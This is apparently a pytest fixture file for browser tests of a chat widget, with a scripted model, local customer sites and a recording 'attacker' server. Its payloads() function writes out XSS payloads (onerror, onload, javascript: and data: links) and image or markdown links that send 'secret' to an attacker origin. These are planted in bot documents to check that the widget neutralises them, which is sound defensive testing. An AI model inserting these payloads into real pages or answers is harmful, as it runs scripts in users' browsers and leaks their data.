"""Browser fixtures: Debian's chromium through Playwright, customer sites served from other
ports, the real server, and the scripted OpenAI-compatible model (the one thing we don't own)
whose answers the tests choose — that is how payloads get "into the model's output"."""

from __future__ import annotations

import struct
import threading
import time
import zlib
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from tests.conftest import LiveServer
from tests.scripted_openai import Reply, ScriptedOpenAI

ROOT = Path(__file__).resolve().parents[2]
ARTIFACTS = ROOT / "test-artifacts" / "widget"
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]


# ---------- customer sites ----------


class Site:
    """A static site on its own port; pages are set by the test. Also records every request
    it receives, so it doubles as the "attacker" server that must never be contacted."""

    def __init__(self):
        self.pages: dict[str, str | bytes] = {}  # bytes are served as a PNG image
        self.hits: list[str] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):  # keep pytest output readable
                pass

            def do_GET(self):
                site.hits.append(self.path)
                body = site.pages.get(self.path.split("?")[0])
                self.send_response(200 if body is not None else 404)
                image = isinstance(body, bytes)
                self.send_header("Content-Type", "image/png" if image else "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(body if image else (body or "not found").encode())

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.port = self.server.server_address[1]
        self.origin = f"http://127.0.0.1:{self.port}"
        # Same server, different origin: a site the bot does NOT allow.
        self.other_origin = f"http://localhost:{self.port}"

    def close(self):
        self.server.shutdown()


@pytest.fixture(scope="module")
def site():
    s = Site()
    yield s
    s.close()


@pytest.fixture(scope="module")
def attacker():
    s = Site()
    yield s
    s.close()


# ---------- the scripted model ----------


class _PausingChunks:
    """Answer chunks that stop halfway until the gate opens: the scripted server writes
    them one by one, so the browser sees half an answer for as long as the test wants."""

    def __init__(self, chunks: list[str], gate: threading.Event):
        self.chunks, self.gate = chunks, gate

    def __len__(self):
        return len(self.chunks)

    def __iter__(self):
        for i, chunk in enumerate(self.chunks):
            if i == len(self.chunks) // 2:
                self.gate.wait(60)
            yield chunk


class ScriptedModel(ScriptedOpenAI):
    """The provider, answering by rule instead of from a queue (the browser decides how many
    questions get asked): the first rule whose trigger is in the last user message wins."""

    def __init__(self):
        super().__init__()
        self.rules: list[tuple[str, str]] = []
        self.default = "I can only help with questions about Acme orders."
        self.gate = threading.Event()
        self.pause_on: str | None = None  # answers containing this stop halfway (see gate)
        self.cut_on: str | None = None  # answers containing this break off halfway (a provider failure)

    def reply_for(self, messages: list[dict]) -> str:
        last_user: dict = next((m for m in reversed(messages) if m.get("role") == "user"), {})
        content = str(last_user.get("content") or "").lower()
        return next((reply for trigger, reply in self.rules if trigger.lower() in content), self.default)

    def _next(self, body: dict) -> Reply:
        with self._lock:
            self.requests.append(body)
        text = self.reply_for(body.get("messages") or [])
        chunks = [text[i : i + 8] for i in range(0, len(text), 8)]
        if self.cut_on and self.cut_on in text:
            return Reply.stream(chunks[: len(chunks) // 2], cut=True)
        if self.pause_on and self.pause_on in text:
            return Reply.stream(_PausingChunks(chunks, self.gate))
        return Reply.stream(chunks)


@pytest.fixture(scope="module")
def scripted_model():
    model = ScriptedModel().start()
    yield model
    model.gate.set()
    model.close()


# ---------- chromium ----------


@pytest.fixture
def artifacts() -> Path:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    return ARTIFACTS


def tiny_png(width: int = 96, height: int = 32) -> bytes:
    """A small real PNG (solid green), so the browser decodes it and reports its size."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + b"\x00\xa0\x40" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def embed_page(
    server_url: str, bot_id: str, key: str, extra_head: str = "", title: str = "Acme shop", script_attrs: str = ""
) -> str:
    return f"""<!doctype html><html><head><meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1"><title>{title}</title>{extra_head}</head>
<body><h1>{title}</h1><p>Welcome to our shop. <a href="/other">Another page</a></p>
<script src="{server_url}/widget.js" data-bot="{bot_id}" data-key="{key}"{script_attrs} async></script>
</body></html>"""


# ---------- the real Prompteur server, with bots whose model is the scripted one ----------

STARTERS = ["How do I return an item?", "How long does shipping take?"]
WELCOME = "Hi! I'm **Acme**'s assistant. Ask me about returns or shipping."
# One question per session is all most tests ask; the rate-limit test asks one more than this.
QUESTIONS_PER_MINUTE = 2


def help_centre(payload: str) -> dict[str, str]:
    """The bot's documents. The warranty page carries the XSS payloads, so they reach the
    widget as citation snippets; it is its own document so that it is retrieved on its own."""
    return {
        "acme-help.txt": (
            "Returns\n\nYou can return any item within 30 days of delivery: see [our returns policy]"
            "(https://shop.example/returns). To return an item, open My orders, click Return, print the "
            "label and drop the parcel off at any post office. Refunds for returned items arrive within 5 "
            "days. Questions to help@shop.example.\n\nShipping\n\nStandard shipping takes 3 to 5 working days; "
            "express shipping takes 1 day.\n"
        ),
        # Payload first: citation snippets are the start of a chunk.
        "warranty.txt": (
            f"Warranty {payload}\n\nWhat the warranty covers: the Acme warranty covers manufacturing defects "
            "for 2 years after purchase. The warranty does not cover accidental damage. To use the warranty, "
            "contact support with your order number.\n"
        ),
    }


def payloads(attacker_origin: str) -> str:
    return (
        "<img src=x onerror=\"window.__pwned='img'\"> "
        f"![x]({attacker_origin}/leak?q=secret) "
        "<svg onload=\"window.__pwned='svg'\"></svg> "
        "[click me](javascript:window.__pwned='js') [tab](java\tscript:window.__pwned='tab') "
        "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
        f'<img src="{attacker_origin}/leak2?q=secret"> '
        f"[leak]({attacker_origin}/clicked)"
    )


def bot_spec(model_url: str, origins: list[str], language: str) -> dict:
    return {
        "persona": {"company": "Acme"},
        "language": {"mode": "fixed", "language": language},
        "model": {"provider": "openai_compatible", "base_url": model_url, "model": "scripted"},
        # These tests watch the widget render text as it streams (a half answer while the
        # model pauses). The guard's "replace" mode releases one checked sentence at a time,
        # which hides exactly that; it is tested through every channel in test_answer_channels.
        "answer": {"style": "generative", "guard": "flag"},
        "allowed_origins": origins,
        "widget": {"title": "Acme Help", "welcome": WELCOME, "starters": STARTERS, "primary_color": "#0b7a5a"},
        "fallback": {"handoff": {"enabled": True, "label": "Talk to a human"}},
    }


@dataclass
class Deployment:
    url: str
    admin: httpx.Client  # authenticated as admin
    bot_id: str = ""
    key: str = ""
    fr_bot_id: str = ""
    fr_key: str = ""
    origins: list[str] = field(default_factory=list)
    messages_allowed: int = QUESTIONS_PER_MINUTE

    def publish_bot(
        self, name: str, spec: dict, language: str, documents: dict[str, str] | None = None
    ) -> tuple[str, str]:
        bot = self.admin.post("/admin/bots", json={"name": name, "language": language, "spec": spec})
        assert bot.status_code == 201, bot.text
        bot_id = bot.json()["id"]
        if documents:
            job = self.admin.post(
                f"/admin/bots/{bot_id}/documents",
                files=[("files", (name, text.encode(), "text/plain")) for name, text in documents.items()],
            )
            assert job.status_code == 202, job.text
            self.wait_job(job.json()["job_id"])
        published = self.admin.post(f"/admin/bots/{bot_id}/versions", json={})
        assert published.status_code == 201, published.text
        key = self.admin.post(f"/admin/bots/{bot_id}/keys", json={"kind": "publishable"})
        assert key.status_code == 201, key.text
        return bot_id, key.json()["key"]

    def wait_job(self, job_id: str, timeout: float = 180) -> None:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            job = self.admin.get(f"/admin/jobs/{job_id}").json()
            if job["status"] == "done" and not job["failed"]:
                return
            assert job["status"] != "failed" and not job.get("failed"), job
            time.sleep(0.2)
        raise AssertionError(f"ingestion job {job_id} did not finish in {timeout}s")

    def assert_handoff_stored(self, conversation_id: str, **fields) -> None:
        detail = self.admin.get(f"/admin/bots/{self.bot_id}/conversations/{conversation_id}")
        assert detail.status_code == 200, detail.text
        handoffs = detail.json()["handoffs"]
        assert handoffs and {k: handoffs[-1][k] for k in fields} == fields, handoffs


SERVER_ENV = {
    "PROMPTEUR_RATE_PER_SESSION": str(QUESTIONS_PER_MINUTE),
    "PROMPTEUR_RATE_PER_IP": "100000",  # every browser in these tests is 127.0.0.1
    "HF_HUB_OFFLINE": "1",
    "TRANSFORMERS_OFFLINE": "1",
    "ANONYMIZED_TELEMETRY": "False",
}


def start_deployment(
    home: Path, site: Site, attacker: Site, model: ScriptedModel, *, process: bool = False
) -> tuple[LiveServer, Deployment]:
    """A real server (uvicorn, its own PROMPTEUR_HOME) with the Acme bot published and keyed;
    `process=True` for a test that kills it."""
    server = LiveServer(home, extra_env=SERVER_ENV, process=process).start()
    admin = httpx.Client(base_url=server.url, timeout=120, headers={"Authorization": f"Bearer {server.admin_token}"})
    d = Deployment(url=server.url, admin=admin)
    # The server's own origin opens sessions for its hosted page whatever the list says; it
    # is listed here too because frame-ancestors (the iframe snippet) is built from the list.
    d.origins = [site.origin, server.url]
    d.bot_id, d.key = d.publish_bot(
        "Acme Help", bot_spec(model.base_url, d.origins, "en"), "en", documents=help_centre(payloads(attacker.origin))
    )
    return server, d


@pytest.fixture(scope="module")
def deployment(tmp_path_factory, site, attacker, scripted_model):
    home = tmp_path_factory.mktemp("widget") / "home"
    home.mkdir()
    server, d = start_deployment(home, site, attacker, scripted_model)
    d.fr_bot_id, d.fr_key = d.publish_bot("Acme Aide", bot_spec(scripted_model.base_url, d.origins, "fr"), "fr")
    yield d
    d.admin.close()
    server.stop()
